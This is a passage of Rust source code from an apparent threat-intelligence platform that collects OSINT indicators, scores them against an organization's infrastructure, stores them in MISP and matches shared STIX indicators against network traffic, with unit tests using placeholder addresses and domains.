                rec(
                    ObservableKind::Domain,
                    "solo.test",
                    ThreatCategory::MalwareDomain,
                ),
            ]
        };
        let a = aggregate_into_ciocs(records(), Timestamp::EPOCH);
        let b = aggregate_into_ciocs(records(), Timestamp::EPOCH);
        let ids_a: Vec<_> = a.iter().map(|c| c.id).collect();
        let ids_b: Vec<_> = b.iter().map(|c| c.id).collect();
        assert_eq!(ids_a, ids_b);
    }
}
