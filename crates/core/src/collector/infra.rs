//! The Infrastructure Data Collector: sensors → correlated alarms and
//! sightings feeding the evaluation context.
//!
//! Section III-A2: this component "obtains information related to the
//! monitored infrastructure that could lead to internal indicators of
//! compromise" and gathers sensor output "that will be contrasted with
//! the data coming from external sources".

use std::sync::Arc;

use cais_infra::sensors::siem::{SiemConfig, SiemCorrelator};
use cais_infra::sensors::{hids, nids, SensorEvent};
use cais_infra::{Alarm, Inventory, SightingStore};

/// The infrastructure collector: NIDS + HIDS engines in front of a SIEM
/// correlator, writing into a shared sighting store.
pub struct InfrastructureCollector {
    inventory: Arc<Inventory>,
    sightings: Arc<SightingStore>,
    nids: nids::NidsEngine,
    hids: hids::HidsEngine,
    siem: SiemCorrelator,
}

impl InfrastructureCollector {
    /// Creates a collector with the default sensor rulesets.
    pub fn new(inventory: Arc<Inventory>, sightings: Arc<SightingStore>) -> Self {
        InfrastructureCollector {
            inventory,
            sightings,
            nids: nids::NidsEngine::with_default_rules("suricata"),
            hids: hids::HidsEngine::with_default_rules("ossec"),
            siem: SiemCorrelator::new(SiemConfig::default()),
        }
    }

    /// Feeds a batch of network packets through the NIDS and SIEM.
    pub fn ingest_packets(&mut self, packets: &[nids::Packet]) -> usize {
        let events = self.nids.inspect_all(packets, &self.inventory);
        self.ingest_events(&events)
    }

    /// Feeds a batch of host log lines through the HIDS and SIEM.
    pub fn ingest_logs(&mut self, logs: &[hids::LogLine]) -> usize {
        let events = self.hids.inspect_all(logs);
        self.ingest_events(&events)
    }

    /// Feeds pre-formed sensor events (e.g. from custom sensors).
    pub fn ingest_events(&mut self, events: &[SensorEvent]) -> usize {
        self.siem.ingest_all(events, &self.sightings);
        events.len()
    }

    /// The correlated alarms so far.
    pub fn alarms(&self) -> &[Alarm] {
        self.siem.alarms()
    }

    /// The shared sighting store.
    pub fn sightings(&self) -> &Arc<SightingStore> {
        &self.sightings
    }
}

impl std::fmt::Debug for InfrastructureCollector {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("InfrastructureCollector")
            .field("alarms", &self.siem.alarms().len())
            .field("sightings", &self.sightings.distinct_observables())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::Timestamp;

    #[test]
    fn packets_become_alarms_and_sightings() {
        let inventory = Arc::new(Inventory::paper_table3());
        let sightings = Arc::new(SightingStore::new());
        let mut collector =
            InfrastructureCollector::new(Arc::clone(&inventory), Arc::clone(&sightings));

        let packets = nids::generate_traffic(3, 300, 0.2, &inventory, Timestamp::EPOCH);
        collector.ingest_packets(&packets);
        assert!(!collector.alarms().is_empty());
        assert!(sightings.distinct_observables() > 0);

        let logs = hids::generate_logs(3, 200, 0.2, &inventory, Timestamp::EPOCH);
        let before = collector.alarms().len();
        collector.ingest_logs(&logs);
        assert!(collector.alarms().len() > before);
    }

    #[test]
    fn quiet_traffic_raises_nothing() {
        let inventory = Arc::new(Inventory::paper_table3());
        let sightings = Arc::new(SightingStore::new());
        let mut collector =
            InfrastructureCollector::new(Arc::clone(&inventory), Arc::clone(&sightings));
        let packets = nids::generate_traffic(3, 100, 0.0, &inventory, Timestamp::EPOCH);
        collector.ingest_packets(&packets);
        assert!(collector.alarms().is_empty());
    }
}
