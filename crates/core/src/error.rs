//! Errors of the platform core.

use std::fmt;

/// Errors produced by the platform core.
#[derive(Debug)]
pub enum CoreError {
    /// A weight scheme does not fit the evaluated feature vector.
    WeightMismatch {
        /// Number of features evaluated.
        features: usize,
        /// Number of weights supplied.
        weights: usize,
    },
    /// Static weights must be non-negative and sum to 1.
    InvalidWeights {
        /// Why the weights were rejected.
        reason: String,
    },
    /// An underlying MISP operation failed.
    Misp(cais_misp::MispError),
    /// An underlying feed operation failed.
    Feed(cais_feeds::FeedError),
}

impl fmt::Display for CoreError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CoreError::WeightMismatch { features, weights } => write!(
                f,
                "weight scheme has {weights} weights but {features} features were evaluated"
            ),
            CoreError::InvalidWeights { reason } => write!(f, "invalid weights: {reason}"),
            CoreError::Misp(err) => write!(f, "MISP error: {err}"),
            CoreError::Feed(err) => write!(f, "feed error: {err}"),
        }
    }
}

impl std::error::Error for CoreError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            CoreError::Misp(err) => Some(err),
            CoreError::Feed(err) => Some(err),
            _ => None,
        }
    }
}

impl From<cais_misp::MispError> for CoreError {
    fn from(err: cais_misp::MispError) -> Self {
        CoreError::Misp(err)
    }
}

impl From<cais_feeds::FeedError> for CoreError {
    fn from(err: cais_feeds::FeedError) -> Self {
        CoreError::Feed(err)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_messages() {
        let e = CoreError::WeightMismatch {
            features: 9,
            weights: 5,
        };
        assert!(e.to_string().contains('9') && e.to_string().contains('5'));
    }
}
