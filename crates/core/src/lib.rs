//! # cais-core
//!
//! The paper's primary contribution: the Context-Aware OSINT Platform's
//! operational core.
//!
//! * [`collector`] — the Input Module: OSINT deduplication, aggregation
//!   by threat category, pairwise correlation into **composed IoCs
//!   (cIoCs)**, and the infrastructure collector.
//! * [`heuristics`] — the Heuristic Component: features, the
//!   Relevance/Accuracy/Timeliness/Variety weighting criteria,
//!   completeness, and the Threat Score `TS = Cp × Σ Xi·Pi` (Eq. 1),
//!   reproducing Table I and Table V of the paper exactly.
//! * [`enrich`] — cIoC + infrastructure context → **enriched IoC
//!   (eIoC)** carrying the score and its per-criterion breakdown.
//! * [`reduce`] — eIoC × inventory → **reduced IoC (rIoC)** associated
//!   with the affected nodes (common keywords match all nodes).
//! * [`pipeline`] — the end-to-end platform of Fig. 1, wired over the
//!   MISP instance and the message bus.
//! * [`baseline`] — the static, context-free scorer the paper's
//!   approach improves on, plus detection/false-positive evaluation.
//!
//! # Examples
//!
//! ```
//! use cais_core::heuristics::{score, FeatureValue, WeightScheme};
//!
//! // Table I, heuristic H1: X = (3,4,3,1,5), static weights.
//! let weights = WeightScheme::fixed(vec![0.10, 0.25, 0.40, 0.15, 0.10]);
//! let values = [3, 4, 3, 1, 5].map(FeatureValue::scored);
//! let ts = score::threat_score(&values, &weights).total();
//! assert!((ts - 3.15).abs() < 1e-9);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod baseline;
pub mod collector;
pub mod context;
pub mod detection;
pub mod enrich;
pub mod error;
pub mod heuristics;
pub mod ioc;
pub mod metrics;
pub mod pipeline;
pub mod reduce;
pub mod telemetry;

pub use context::EvaluationContext;
pub use detection::{Detection, DetectionEngine};
pub use enrich::Enricher;
pub use error::CoreError;
pub use heuristics::{FeatureValue, HeuristicKind, WeightScheme};
pub use ioc::{ComposedIoc, EnrichedIoc, ReducedIoc};
pub use metrics::{StageMetrics, StageRecord};
pub use pipeline::{Platform, PlatformConfig, PlatformReport, SourceIngestReport};
pub use reduce::{ReduceCacheStats, Reducer};
pub use telemetry::PipelineInstruments;
