//! The end-to-end platform of Fig. 1: Input Module → Operational Module
//! (MISP + Heuristic Component) → Output Module.
//!
//! Data flow, exactly as Section IV-A narrates it: collectors push IoCs
//! into the MISP instance; OSINT events trigger the real-time sharing
//! mechanism (the message bus standing in for zeroMQ); the Heuristic
//! Component scores them against infrastructure data; the eIoC is
//! written back to MISP; and when the inventory matches, the rIoC goes
//! out to the dashboard topic (socket.io in the paper).

use std::sync::Arc;

use cais_bus::{topics, Broker, Topic};

use cais_feeds::FeedRecord;
use cais_infra::sensors::{hids, nids};
use cais_misp::MispApi;
use serde::{Deserialize, Serialize};

use crate::collector::{InfrastructureCollector, OsintCollector};
use crate::context::EvaluationContext;
use crate::enrich::{persist_enriched, Enricher};
use crate::error::CoreError;
use crate::ioc::{EnrichedIoc, ReducedIoc};
use crate::reduce::Reducer;

/// Platform configuration.
#[derive(Debug, Clone)]
pub struct PlatformConfig {
    /// The operating organization (stamped on MISP events).
    pub org: String,
    /// Whether eIoCs are published on the MISP instance after
    /// enrichment (enables onward sharing).
    pub publish_enriched: bool,
    /// Whether the NLP classifier of Section II-A drops feed records
    /// whose descriptions carry no threat language ("tag OSINT data as
    /// relevant or irrelevant"). Records without descriptions pass
    /// untouched.
    pub nlp_relevance_filter: bool,
    /// Whether MISP-style warninglists drop feed records whose values
    /// are known-benign (private/reserved addresses, public resolvers,
    /// reserved domains, empty-input hashes).
    pub warninglist_filter: bool,
}

impl Default for PlatformConfig {
    fn default() -> Self {
        PlatformConfig {
            org: "CAIS".to_owned(),
            publish_enriched: true,
            nlp_relevance_filter: false,
            warninglist_filter: false,
        }
    }
}

/// Counters of one ingestion round.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct PlatformReport {
    /// Feed records offered.
    pub records_in: usize,
    /// Records the NLP relevance filter dropped (0 unless enabled).
    #[serde(default)]
    pub nlp_filtered: usize,
    /// Records the warninglist filter dropped as known-benign.
    #[serde(default)]
    pub benign_filtered: usize,
    /// Records dropped by deduplication.
    pub duplicates_dropped: usize,
    /// Composed IoCs created.
    pub ciocs: usize,
    /// Enriched IoCs produced (always equals `ciocs`).
    pub eiocs: usize,
    /// Reduced IoCs that matched the infrastructure.
    pub riocs: usize,
}

/// The assembled Context-Aware OSINT Platform.
pub struct Platform {
    config: PlatformConfig,
    broker: Broker,
    misp: MispApi,
    ctx: EvaluationContext,
    enricher: Enricher,
    reducer: Reducer,
    osint: OsintCollector,
    infra: InfrastructureCollector,
    classifier: cais_nlp::ThreatClassifier,
    quality: cais_feeds::QualityTracker,
    detection: crate::detection::DetectionEngine,
    detections: Vec<crate::detection::Detection>,
    alarms_forwarded: usize,
    riocs: Vec<ReducedIoc>,
    eiocs: Vec<EnrichedIoc>,
}

impl Platform {
    /// Assembles the platform around an evaluation context.
    pub fn new(config: PlatformConfig, ctx: EvaluationContext) -> Self {
        let broker = Broker::new();
        let misp = MispApi::new(config.org.clone()).with_broker(broker.clone());
        let enricher = Enricher::new(ctx.clone());
        let reducer = Reducer::new(Arc::clone(&ctx.inventory));
        let infra =
            InfrastructureCollector::new(Arc::clone(&ctx.inventory), Arc::clone(&ctx.sightings));
        Platform {
            config,
            broker,
            misp,
            ctx,
            enricher,
            reducer,
            osint: OsintCollector::new(),
            classifier: cais_nlp::ThreatClassifier::new(),
            quality: cais_feeds::QualityTracker::new(),
            infra,
            alarms_forwarded: 0,
            detection: crate::detection::DetectionEngine::new(4_096),
            detections: Vec::new(),
            riocs: Vec::new(),
            eiocs: Vec::new(),
        }
    }

    /// A platform over the paper's Table III context.
    pub fn paper_use_case() -> Self {
        Platform::new(PlatformConfig::default(), EvaluationContext::paper_use_case())
    }

    /// The message bus (subscribe to [`topics::RIOC_PUBLISHED`] for the
    /// dashboard feed).
    pub fn broker(&self) -> &Broker {
        &self.broker
    }

    /// The MISP instance.
    pub fn misp(&self) -> &MispApi {
        &self.misp
    }

    /// The evaluation context.
    pub fn context(&self) -> &EvaluationContext {
        &self.ctx
    }

    /// Every rIoC produced so far.
    pub fn riocs(&self) -> &[ReducedIoc] {
        &self.riocs
    }

    /// Every eIoC produced so far.
    pub fn eiocs(&self) -> &[EnrichedIoc] {
        &self.eiocs
    }

    /// Runs one OSINT ingestion round: dedup → aggregate/correlate →
    /// store in MISP → heuristic analysis → eIoC write-back →
    /// reduction → dashboard publication.
    ///
    /// # Errors
    ///
    /// Returns MISP persistence errors; scoring itself cannot fail.
    pub fn ingest_feed_records(
        &mut self,
        records: Vec<FeedRecord>,
    ) -> Result<PlatformReport, CoreError> {
        let mut report = PlatformReport {
            records_in: records.len(),
            ..PlatformReport::default()
        };
        let records = if self.config.nlp_relevance_filter {
            let before = records.len();
            let kept: Vec<FeedRecord> = records
                .into_iter()
                .filter(|record| match &record.description {
                    Some(description) => self.classifier.classify(description).is_relevant(),
                    None => true,
                })
                .collect();
            report.nlp_filtered = before - kept.len();
            kept
        } else {
            records
        };
        let records = if self.config.warninglist_filter {
            let before = records.len();
            let kept: Vec<FeedRecord> = records
                .into_iter()
                .filter(|record| {
                    cais_misp::warninglist::check_observable(&record.observable).is_none()
                })
                .collect();
            report.benign_filtered = before - kept.len();
            kept
        } else {
            records
        };
        self.quality.record_batch(&records, self.ctx.now);
        let dropped_before = self.osint.dedup_stats().dropped;
        let ciocs = self.osint.ingest(records, self.ctx.now);
        report.duplicates_dropped = self.osint.dedup_stats().dropped - dropped_before;
        report.ciocs = ciocs.len();

        for cioc in ciocs {
            let _ = self
                .broker
                .publish_value(Topic::new(topics::CIOC_RECEIVED), &cioc);
            let mut eioc = self.enricher.enrich(cioc);
            let event_id = persist_enriched(&self.misp, &mut eioc)?;
            if self.config.publish_enriched {
                self.misp.publish_event(event_id)?;
            }
            let _ = self
                .broker
                .publish_value(Topic::new(topics::EIOC_READY), &eioc);
            report.eiocs += 1;

            if let Some(rioc) = self.reducer.reduce(&eioc) {
                let _ = self
                    .broker
                    .publish_value(Topic::new(topics::RIOC_PUBLISHED), &rioc);
                self.riocs.push(rioc);
                report.riocs += 1;
            }
            self.eiocs.push(eioc);
        }
        Ok(report)
    }

    /// Ingests a STIX 2.0 bundle from a sharing partner: every object a
    /// heuristic supports is scored against the context, stored in MISP
    /// with its threat score, and published. Returns how many objects
    /// were scored.
    ///
    /// # Errors
    ///
    /// Returns MISP persistence errors.
    pub fn ingest_stix_bundle(
        &mut self,
        bundle: &cais_stix::Bundle,
    ) -> Result<usize, CoreError> {
        use crate::heuristics::generic;
        // Arm every carried indicator for live detection replay.
        self.detection.arm_bundle(bundle);
        let mut scored = 0;
        for object in bundle.objects() {
            let Some((heuristic, threat_score)) = generic::evaluate_object(object, &self.ctx)
            else {
                continue;
            };
            // Reuse the importer for the types it maps; build a minimal
            // event for the rest.
            let single = cais_stix::Bundle::new(vec![object.clone()]);
            let event = cais_misp::import::events_from_stix(&single)
                .into_iter()
                .next()
                .unwrap_or_else(|| {
                    let mut event = cais_misp::MispEvent::new(format!(
                        "STIX {}: {}",
                        object.object_type(),
                        object.name().unwrap_or("unnamed"),
                    ));
                    event.date = object.created();
                    event
                });
            let event_id = self.misp.add_event(event)?;
            crate::enrich::attach_score(&self.misp, event_id, heuristic, &threat_score)?;
            if self.config.publish_enriched {
                self.misp.publish_event(event_id)?;
            }
            scored += 1;
        }
        Ok(scored)
    }

    /// Feeds network packets through the infrastructure collector,
    /// forwarding fresh alarms to the context and the bus, and replays
    /// armed indicator patterns over the traffic.
    pub fn ingest_packets(&mut self, packets: &[nids::Packet]) {
        self.infra.ingest_packets(packets);
        self.forward_alarms();
        let observations: Vec<cais_stix::pattern::Observation> = packets
            .iter()
            .map(|p| {
                cais_stix::pattern::Observation::at(p.at)
                    .with_object(cais_stix::sdo::CyberObservable::new(
                        "ipv4-addr",
                        p.src_ip.clone(),
                    ))
                    .with_object(cais_stix::sdo::CyberObservable::new(
                        "ipv4-addr",
                        p.dst_ip.clone(),
                    ))
            })
            .collect();
        let detections = self
            .detection
            .ingest(observations, self.ctx.now, &self.ctx.sightings);
        for detection in detections {
            let _ = self
                .broker
                .publish_value(Topic::new(topics::DETECTION_FIRED), &detection);
            self.detections.push(detection);
        }
    }

    /// Feeds host logs through the infrastructure collector.
    pub fn ingest_logs(&mut self, logs: &[hids::LogLine]) {
        self.infra.ingest_logs(logs);
        self.forward_alarms();
    }

    /// Every indicator-pattern detection fired so far.
    pub fn detections(&self) -> &[crate::detection::Detection] {
        &self.detections
    }

    /// Per-feed quality grades (0–5), best feed first — volume-unique
    /// contribution, freshness and reliability combined.
    pub fn feed_scoreboard(&self) -> Vec<(String, f64)> {
        self.quality
            .scoreboard()
            .into_iter()
            .map(|(source, grade)| (source.to_owned(), grade))
            .collect()
    }

    /// Number of indicators armed for detection replay.
    pub fn armed_indicators(&self) -> usize {
        self.detection.armed()
    }

    fn forward_alarms(&mut self) {
        let alarms = self.infra.alarms();
        for alarm in &alarms[self.alarms_forwarded.min(alarms.len())..] {
            self.ctx.push_alarm(alarm.clone());
            let _ = self
                .broker
                .publish_value(Topic::new(topics::ALARM_RAISED), alarm);
        }
        self.alarms_forwarded = alarms.len();
    }

    /// Shares every published eIoC event to another MISP instance
    /// (trusted-organization sharing), returning how many transferred.
    pub fn share_with(&self, partner: &MispApi) -> usize {
        cais_misp::sync::push(&self.misp, partner).transferred
    }
}

impl std::fmt::Debug for Platform {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Platform")
            .field("org", &self.config.org)
            .field("eiocs", &self.eiocs.len())
            .field("riocs", &self.riocs.len())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::heuristics::vulnerability::paper_rce_ioc;
    use cais_common::{Observable, ObservableKind, Timestamp};
    use cais_feeds::ThreatCategory;

    fn struts_record(now: Timestamp) -> FeedRecord {
        FeedRecord::new(
            Observable::new(ObservableKind::Cve, "CVE-2017-9805"),
            ThreatCategory::VulnerabilityExploitation,
            "nvd-feed",
            now.add_days(-100),
        )
        .with_cve("CVE-2017-9805")
        .with_description("remote code execution in apache struts")
    }

    #[test]
    fn end_to_end_use_case_flow() {
        let mut platform = Platform::paper_use_case();
        let rioc_feed = platform.broker().subscribe("cais.rioc.published");
        let now = platform.context().now;

        let report = platform
            .ingest_feed_records(vec![struts_record(now), struts_record(now)])
            .unwrap();
        assert_eq!(report.records_in, 2);
        assert_eq!(report.duplicates_dropped, 1);
        assert_eq!(report.ciocs, 1);
        assert_eq!(report.eiocs, 1);
        assert_eq!(report.riocs, 1);

        // The dashboard topic carried the rIoC.
        let messages = rioc_feed.drain();
        assert_eq!(messages.len(), 1);
        let rioc: ReducedIoc = messages[0].decode().unwrap();
        assert_eq!(rioc.cve.as_deref(), Some("CVE-2017-9805"));
        assert_eq!(rioc.nodes, vec![cais_infra::NodeId(4)]);

        // The eIoC landed in MISP with its score.
        let event = platform
            .misp()
            .get_event(rioc.misp_event_id.unwrap())
            .unwrap();
        assert!(event.published);
        assert!(event.threat_score().is_some());
    }

    #[test]
    fn irrelevant_iocs_do_not_reach_the_dashboard() {
        let mut platform = Platform::paper_use_case();
        let now = platform.context().now;
        let record = FeedRecord::new(
            Observable::new(ObservableKind::Domain, "unrelated.example"),
            ThreatCategory::MalwareDomain,
            "feed",
            now,
        );
        let report = platform.ingest_feed_records(vec![record]).unwrap();
        assert_eq!(report.eiocs, 1);
        assert_eq!(report.riocs, 0);
        assert!(platform.riocs().is_empty());
        // …but the eIoC is still stored for future correlation.
        assert_eq!(platform.misp().store().len(), 1);
    }

    #[test]
    fn alarms_feed_the_heuristics() {
        let mut platform = Platform::paper_use_case();
        let now = platform.context().now;
        // Struts exploitation traffic against node 4 raises an alarm
        // tagged apache-struts…
        let packet = nids::Packet {
            at: now,
            src_ip: "203.0.113.9".into(),
            dst_ip: "192.168.1.14".into(),
            dst_port: 8080,
            payload: "XStreamHandler xstream exploit".into(),
        };
        platform.ingest_packets(&[packet]);
        assert_eq!(platform.context().alarms.read().len(), 1);

        // …so the use-case IoC now scores above its alarm-free 2.7407.
        let score_with_alarm = crate::heuristics::vulnerability::evaluate(
            &paper_rce_ioc(),
            platform.context(),
        );
        assert!(score_with_alarm.total() > 2.7407);
    }

    #[test]
    fn sharing_transfers_published_events() {
        let mut platform = Platform::paper_use_case();
        let now = platform.context().now;
        platform
            .ingest_feed_records(vec![struts_record(now)])
            .unwrap();
        let partner = MispApi::new("partner-org");
        let transferred = platform.share_with(&partner);
        assert_eq!(transferred, 1);
        assert_eq!(partner.store().len(), 1);
    }

    #[test]
    fn report_counters_accumulate_per_round() {
        let mut platform = Platform::paper_use_case();
        let now = platform.context().now;
        platform
            .ingest_feed_records(vec![struts_record(now)])
            .unwrap();
        // Second round: the same record is a pure duplicate.
        let report = platform
            .ingest_feed_records(vec![struts_record(now)])
            .unwrap();
        assert_eq!(report.duplicates_dropped, 1);
        assert_eq!(report.ciocs, 0);
        assert_eq!(platform.eiocs().len(), 1);
    }

    #[test]
    fn nlp_filter_drops_irrelevant_descriptions() {
        let mut platform = Platform::new(
            PlatformConfig {
                nlp_relevance_filter: true,
                ..PlatformConfig::default()
            },
            crate::context::EvaluationContext::paper_use_case(),
        );
        let now = platform.context().now;
        let threat = struts_record(now); // "remote code execution" fires
        let noise = FeedRecord::new(
            Observable::new(ObservableKind::Domain, "pr.example.com"),
            ThreatCategory::MalwareDomain,
            "feed",
            now,
        )
        .with_description("company announces record quarterly earnings");
        let undescribed = FeedRecord::new(
            Observable::new(ObservableKind::Domain, "bare.example.com"),
            ThreatCategory::MalwareDomain,
            "feed",
            now,
        );
        let report = platform
            .ingest_feed_records(vec![threat, noise, undescribed])
            .unwrap();
        assert_eq!(report.records_in, 3);
        assert_eq!(report.nlp_filtered, 1);
        assert_eq!(report.ciocs, 2);
    }

    #[test]
    fn stix_bundle_ingestion_scores_supported_objects() {
        use cais_stix::prelude::*;
        let mut platform = Platform::paper_use_case();
        let stamp = platform.context().now.add_days(-3);
        let bundle = Bundle::new(vec![
            Malware::builder("emotet")
                .label("trojan")
                .status("active")
                .created(stamp)
                .modified(stamp)
                .build()
                .into(),
            Tool::builder("snort")
                .label("network-capture")
                .created(stamp)
                .modified(stamp)
                .build()
                .into(),
            // Unsupported: contributes nothing.
            Campaign::builder("op-x").created(stamp).modified(stamp).build().into(),
        ]);
        let scored = platform.ingest_stix_bundle(&bundle).unwrap();
        assert_eq!(scored, 2);
        assert_eq!(platform.misp().store().len(), 2);
        for event in platform.misp().store().all() {
            assert!(event.threat_score().is_some());
            assert!(event.published);
        }
    }

    #[test]
    fn partner_indicators_detect_live_traffic() {
        use cais_stix::prelude::*;
        let mut platform = Platform::paper_use_case();
        let detections_feed = platform.broker().subscribe("cais.detection.fired");
        let stamp = platform.context().now.add_days(-1);

        // A partner shares an indicator for a known C2 address.
        let mut builder =
            Indicator::builder("[ipv4-addr:value = '203.0.113.77']", stamp);
        builder
            .name("partner-c2")
            .label("malicious-activity")
            .created(stamp)
            .modified(stamp);
        let bundle = Bundle::new(vec![builder.build().into()]);
        platform.ingest_stix_bundle(&bundle).unwrap();
        assert_eq!(platform.armed_indicators(), 1);

        // Traffic from that address arrives.
        let packet = nids::Packet {
            at: platform.context().now,
            src_ip: "203.0.113.77".into(),
            dst_ip: "192.168.1.11".into(),
            dst_port: 443,
            payload: "tls".into(),
        };
        platform.ingest_packets(&[packet]);
        assert_eq!(platform.detections().len(), 1);
        assert_eq!(platform.detections()[0].indicator_name, "partner-c2");
        assert_eq!(detections_feed.drain().len(), 1);
        // The detection registered a sighting, so future scoring sees
        // infrastructure-confirmed evidence.
        assert!(platform
            .context()
            .sightings
            .has_seen(&cais_common::Observable::parse("203.0.113.77").unwrap()));
    }
}

#[cfg(test)]
mod warninglist_tests {
    use super::*;
    use cais_common::{Observable, ObservableKind};
    use cais_feeds::ThreatCategory;

    #[test]
    fn warninglist_filter_drops_known_benign_values() {
        let mut platform = Platform::new(
            PlatformConfig {
                warninglist_filter: true,
                ..PlatformConfig::default()
            },
            crate::context::EvaluationContext::paper_use_case(),
        );
        let now = platform.context().now;
        let make = |kind, value: &str| {
            FeedRecord::new(
                Observable::new(kind, value),
                ThreatCategory::CommandAndControl,
                "feed",
                now,
            )
        };
        let report = platform
            .ingest_feed_records(vec![
                make(ObservableKind::Ipv4, "10.0.0.7"),          // private
                make(ObservableKind::Ipv4, "8.8.8.8"),           // resolver
                make(ObservableKind::Domain, "foo.test"),        // reserved TLD
                make(ObservableKind::Ipv4, "45.33.12.7"),        // genuine
                make(ObservableKind::Domain, "real-threat.ru"),  // genuine
            ])
            .unwrap();
        assert_eq!(report.records_in, 5);
        assert_eq!(report.benign_filtered, 3);
        assert_eq!(report.ciocs, 2);
    }

    #[test]
    fn filter_off_passes_everything() {
        let mut platform = Platform::paper_use_case();
        let now = platform.context().now;
        let record = FeedRecord::new(
            Observable::new(ObservableKind::Ipv4, "10.0.0.7"),
            ThreatCategory::CommandAndControl,
            "feed",
            now,
        );
        let report = platform.ingest_feed_records(vec![record]).unwrap();
        assert_eq!(report.benign_filtered, 0);
        assert_eq!(report.ciocs, 1);
    }
}
