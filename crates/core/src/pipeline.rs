//! The end-to-end platform of Fig. 1: Input Module → Operational Module
//! (MISP + Heuristic Component) → Output Module.
//!
//! Data flow, exactly as Section IV-A narrates it: collectors push IoCs
//! into the MISP instance; OSINT events trigger the real-time sharing
//! mechanism (the message bus standing in for zeroMQ); the Heuristic
//! Component scores them against infrastructure data; the eIoC is
//! written back to MISP; and when the inventory matches, the rIoC goes
//! out to the dashboard topic (socket.io in the paper).

use std::collections::HashMap;
use std::sync::Arc;
use std::time::Instant;

use cais_bus::{topics, Broker, Topic};

use cais_feeds::FeedRecord;
use cais_infra::sensors::{hids, nids};
use cais_misp::MispApi;
use cais_telemetry::{FlightRecorder, Registry, TraceContext, Tracer};
use serde::{Deserialize, Serialize};

use crate::collector::{aggregate_into_ciocs, InfrastructureCollector, OsintCollector};
use crate::context::EvaluationContext;
use crate::enrich::{persist_enriched_traced, Enricher};
use crate::error::CoreError;
use crate::ioc::{ComposedIoc, EnrichedIoc, ReducedIoc};
use crate::metrics::{StageMetrics, StageRecord};
use crate::reduce::Reducer;
use crate::telemetry::PipelineInstruments;

fn nanos_since(started: Instant) -> u64 {
    u64::try_from(started.elapsed().as_nanos()).unwrap_or(u64::MAX)
}

/// Platform configuration.
#[derive(Debug, Clone)]
pub struct PlatformConfig {
    /// The operating organization (stamped on MISP events).
    pub org: String,
    /// Whether eIoCs are published on the MISP instance after
    /// enrichment (enables onward sharing).
    pub publish_enriched: bool,
    /// Whether the NLP classifier of Section II-A drops feed records
    /// whose descriptions carry no threat language ("tag OSINT data as
    /// relevant or irrelevant"). Records without descriptions pass
    /// untouched.
    pub nlp_relevance_filter: bool,
    /// Whether MISP-style warninglists drop feed records whose values
    /// are known-benign (private/reserved addresses, public resolvers,
    /// reserved domains, empty-input hashes).
    pub warninglist_filter: bool,
}

impl Default for PlatformConfig {
    fn default() -> Self {
        PlatformConfig {
            org: "CAIS".to_owned(),
            publish_enriched: true,
            nlp_relevance_filter: false,
            warninglist_filter: false,
        }
    }
}

/// Counters of one ingestion round.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct PlatformReport {
    /// Feed records offered.
    pub records_in: usize,
    /// Records the NLP relevance filter dropped (0 unless enabled).
    #[serde(default)]
    pub nlp_filtered: usize,
    /// Records the warninglist filter dropped as known-benign.
    #[serde(default)]
    pub benign_filtered: usize,
    /// Records dropped by deduplication.
    pub duplicates_dropped: usize,
    /// Composed IoCs created.
    pub ciocs: usize,
    /// Enriched IoCs produced (always equals `ciocs`).
    pub eiocs: usize,
    /// Reduced IoCs that matched the infrastructure.
    pub riocs: usize,
    /// Per-stage record counters and wall times for this round.
    #[serde(default)]
    pub stages: StageMetrics,
}

impl PlatformReport {
    /// Whether two rounds produced identical record counters at every
    /// level — top-line and per-stage — ignoring wall times. This is
    /// the determinism contract between [`Platform::ingest_feed_records`]
    /// and [`Platform::ingest_feed_records_parallel`].
    pub fn same_counters(&self, other: &PlatformReport) -> bool {
        self.records_in == other.records_in
            && self.nlp_filtered == other.nlp_filtered
            && self.benign_filtered == other.benign_filtered
            && self.duplicates_dropped == other.duplicates_dropped
            && self.ciocs == other.ciocs
            && self.eiocs == other.eiocs
            && self.riocs == other.riocs
            && self.stages.same_counts(&other.stages)
    }
}

/// Why the per-record filter stage rejected a record.
enum FilterDrop {
    /// The NLP classifier judged the description irrelevant.
    Irrelevant,
    /// A warninglist flagged the value as known-benign.
    Benign,
}

/// Everything a parallel worker precomputes for one cIoC: the scored
/// eIoC, the MISP event in its final stored form (score attribute,
/// `cais:*` tags, published flag), the reduction outcome, and every
/// serialized bus payload the sequential tail flushes in batches.
/// Payloads are `None` only when serialization fails, mirroring the
/// sequential path's ignore-on-error publishes.
struct PreparedIoc {
    eioc: EnrichedIoc,
    event: cais_misp::MispEvent,
    cioc_payload: Option<serde_json::Value>,
    created_payload: Option<serde_json::Value>,
    updated_payload: Option<serde_json::Value>,
    published_payload: Option<serde_json::Value>,
    eioc_payload: Option<serde_json::Value>,
    rioc: Option<ReducedIoc>,
    rioc_payload: Option<serde_json::Value>,
}

/// The assembled Context-Aware OSINT Platform.
pub struct Platform {
    config: PlatformConfig,
    broker: Broker,
    misp: MispApi,
    ctx: EvaluationContext,
    enricher: Enricher,
    reducer: Reducer,
    osint: OsintCollector,
    infra: InfrastructureCollector,
    classifier: cais_nlp::ThreatClassifier,
    quality: cais_feeds::QualityTracker,
    detection: crate::detection::DetectionEngine,
    detections: Vec<crate::detection::Detection>,
    alarms_forwarded: usize,
    riocs: Vec<ReducedIoc>,
    eiocs: Vec<EnrichedIoc>,
    telemetry: Registry,
    tracer: Tracer,
    flight: Option<FlightRecorder>,
    instruments: PipelineInstruments,
}

impl Platform {
    /// Assembles the platform around an evaluation context, with a
    /// private telemetry registry.
    pub fn new(config: PlatformConfig, ctx: EvaluationContext) -> Self {
        Platform::with_telemetry(config, ctx, Registry::new())
    }

    /// Assembles the platform recording into a caller-supplied
    /// telemetry registry: the broker and the MISP store are
    /// instrumented against it, and every ingestion round feeds its
